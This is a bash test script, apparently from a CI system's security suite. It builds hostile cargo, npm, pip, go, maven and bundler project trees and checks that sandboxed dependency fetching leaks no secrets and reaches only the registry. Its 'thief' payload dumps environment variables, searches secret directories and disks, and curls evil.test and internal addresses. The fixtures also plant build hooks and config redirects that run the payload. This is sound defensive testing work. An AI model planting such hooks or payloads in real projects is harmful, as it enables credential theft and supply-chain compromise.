# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=bash
#
# Sources that turn against the machine which fetches for them: for each package manager, what in a tree it runs or
# follows. Sourced by run. The network has one server, which is files.test and evil.test; the registries there are empty.
# Whatever a tree does: it finds no secret and nothing of the source that it was not given, reaches no other host than
# the registry, and the log has what it tried.

: "${work:?}"

private='a line of the private source'
secret='a line of the secret'

# What code of a source would look for, as a script.
thief() {
	cat <<-'END'
		{
			echo "the thief was here"
			env
			ls -lR /ci/secrets
			grep -rs "a line of the" /ci /root /home /run /tmp /etc
			for disk in /dev/vd[b-z]; do head -c 1M $disk | grep -a "a line of the"; done
			for at in http://evil.test/hello http://127.0.0.1/hello http://10.0.2.2/hello; do
				curl -sS -m 5 "$at"
				curl -sS -m 5 --noproxy '*' "$at"
			done
		} >/ci/deps/stolen 2>&1
	END
}

# tries NAME IMAGE ACTION [KEY]: a run of the source $work/NAME, with what else the project has.
tries() {
	echo "$private" >"$work/$1/private"
	rm -rf "$work/www"
	mkdir -p "$work/www/registry"
	: >"$work/httpd.log"
	configure files.test
	(umask 077 && echo "$secret" >"$work/secret")
	cat >>"$work/config.yaml" <<-END
		secrets: [{source: "$work/secret", dest: token}]
		registries:
		  cargo: {address: "sparse+http://files.test/file/registry/"}
		  npm: {address: "http://files.test/file/registry/"}
		  pypi: {address: "http://files.test/file/registry/"}
		  go: {address: "http://files.test/file/registry/"}
		  maven: {address: "http://files.test/file/registry/"}
		  rubygems: {address: "http://files.test/file/registry/"}
	END
	cat >"$work/projects.yaml" <<-END
		projects:
		  $1:
		    source: $work/$1
		    image: $2
		    ${4:-}
		    pre_plan: [{action: $3}]
		    plan:
		      - action: shell
		        shell: |
		          mkdir /ci/artifacts/deps
		          cp -r /ci/deps/. /ci/artifacts/deps
		    post_plan: [{action: pwd}]
	END
	ambient image show "$2" >/dev/null 2>&1 || ambient image build "$2" || return 1
	run_here "$1"
	[ -e "$work/state/$1/latest/run.jsonl" ]
}

# resisted NAME: nothing came of it, and no other host than the registry's was asked for anything.
resisted() {
	local log=$work/state/$1/latest/run.jsonl
	! grep -e "$private" -e "$secret" "$log" "$work/state/$1/latest/artifacts/deps/stolen" || return 1
	! jq -r '.fields[] | select(.[0] == "Host") | .[1]' "$work/httpd.log" | grep -v '^files\.test' || return 1
	! jq -r 'select(.type == "egress" and .verdict == "allowed") | .host' "$log" | grep -vx files.test
}

# blocked NAME: the log says that evil.test was asked for, and blocked.
blocked() {
	jq -r 'select(.type == "egress" and .host == "evil.test") | .verdict' "$work/state/$1/latest/run.jsonl" | grep -v allowed
}

# has_run NAME: code of the tree has run where it was fetched, as it cannot but do.
has_run() {
	grep -q 'the thief was here' "$work/state/$1/latest/artifacts/deps/stolen"
}

# has_not_run NAME: none has. The thief would have asked for this address, which the log has, however the run ended.
has_not_run() {
	! jq -r 'select(.type == "egress") | .host' "$work/state/$1/latest/run.jsonl" | grep -x 10.0.2.2 &&
		[ ! -e "$work/state/$1/latest/artifacts/deps/stolen" ]
}

# cargo runs build.rustc of the tree's configuration, and follows its registries.
hostile_cargo() {
	mkdir -p "$work/hostile_cargo/.cargo" "$work/hostile_cargo/src"
	cd "$work/hostile_cargo" || return 1
	printf '%s\n' '[package]' 'name = "x"' 'version = "0.1.0"' 'edition = "2021"' >Cargo.toml
	printf '%s\n' '[build]' 'rustc = "./evil.sh"' 'rustc-wrapper = "./evil.sh"' '[source.crates-io]' 'replace-with = "evil"' \
		'[source.evil]' 'registry = "sparse+http://evil.test/file/registry/"' >.cargo/config.toml
	echo '[toolchain]
path = "evil"' >rust-toolchain.toml
	{
		echo '#!/bin/bash'
		thief
	} >evil.sh
	chmod +x evil.sh
	: >src/main.rs
	tries hostile_cargo rust cargo_fetch && resisted hostile_cargo && has_not_run hostile_cargo
}

# npm follows .npmrc, runs scripts of the tree, and goes where the lock file says.
hostile_npm() {
	mkdir -p "$work/hostile_npm"
	cd "$work/hostile_npm" || return 1
	thief >evil.sh
	printf '%s\n' 'registry=http://evil.test/' 'script-shell=./evil.sh' 'ignore-scripts=false' 'git=./evil.sh' >.npmrc
	echo '{"name": "x", "version": "1.0.0", "scripts": {"preinstall": "bash evil.sh", "prepare": "bash evil.sh"},
		"dependencies": {"a": "1.0.0"}}' >package.json
	echo '{"name": "x", "version": "1.0.0", "lockfileVersion": 3, "packages": {"": {"name": "x", "version": "1.0.0",
		"dependencies": {"a": "1.0.0"}}, "node_modules/a": {"version": "1.0.0", "resolved": "http://evil.test/a.tgz"}}}' \
		>package-lock.json
	tries hostile_npm node npm_fetch && resisted hostile_npm && blocked hostile_npm && has_not_run hostile_npm
}

# pip follows the indexes and places that a requirements file names, and builds what has no wheel.
hostile_pip() {
	mkdir -p "$work/hostile_pip"
	cd "$work/hostile_pip" || return 1
	printf '%s\n' '--index-url http://evil.test/simple' '--trusted-host evil.test' '--find-links http://evil.test/links' \
		'a==1.0' >requirements.txt
	printf '%s\n' 'import os' 'os.system("bash evil.sh")' >setup.py
	thief >evil.sh
	tries hostile_pip python pip_download && resisted hostile_pip && blocked hostile_pip && has_not_run hostile_pip
}

# go asks the servers that modules are named after, where it may.
hostile_go() {
	mkdir -p "$work/hostile_go"
	cd "$work/hostile_go" || return 1
	printf '%s\n' 'module x' 'go 1.19' 'require evil.test/a v1.0.0' >go.mod
	printf '%s\n' 'GOPROXY=http://evil.test,direct' 'GOPRIVATE=evil.test' 'GOFLAGS=-toolexec=./evil.sh' >go.env
	thief >evil.sh
	tries hostile_go go go_mod_download && resisted hostile_go && has_not_run hostile_go
}

# maven has plugins, extensions and repositories of the project, and options in files.
hostile_maven() {
	local url='<url>http://evil.test/m2</url>'
	mkdir -p "$work/hostile_maven/.mvn"
	cd "$work/hostile_maven" || return 1
	echo "<project><modelVersion>4.0.0</modelVersion><groupId>x</groupId><artifactId>x</artifactId><version>1</version>
		<repositories><repository><id>evil</id>$url</repository></repositories>
		<pluginRepositories><pluginRepository><id>evil</id>$url</pluginRepository></pluginRepositories>
		<dependencies><dependency><groupId>a</groupId><artifactId>a</artifactId><version>1</version></dependency></dependencies>
		</project>" >pom.xml
	echo "<settings><mirrors><mirror><id>evil</id><mirrorOf>*</mirrorOf>$url</mirror></mirrors></settings>" >.mvn/evil.xml
	printf '%s\n' '--settings' '.mvn/evil.xml' >.mvn/maven.config
	echo '<extensions><extension><groupId>a</groupId><artifactId>a</artifactId><version>1</version></extension></extensions>' \
		>.mvn/extensions.xml
	tries hostile_maven java maven_fetch 'fetch_source: all' && resisted hostile_maven
}

# A Gemfile is a program.
hostile_bundler() {
	mkdir -p "$work/hostile_bundler"
	cd "$work/hostile_bundler" || return 1
	{
		echo 'source "https://rubygems.org"'
		echo 'IO.popen(["bash"], "w") { |shell| shell.write(<<'"'EVIL'"') }'
		thief
		echo EVIL
	} >Gemfile
	tries hostile_bundler ruby bundle_fetch && resisted hostile_bundler && has_run hostile_bundler && ! has_not_run hostile_bundler && blocked hostile_bundler
}
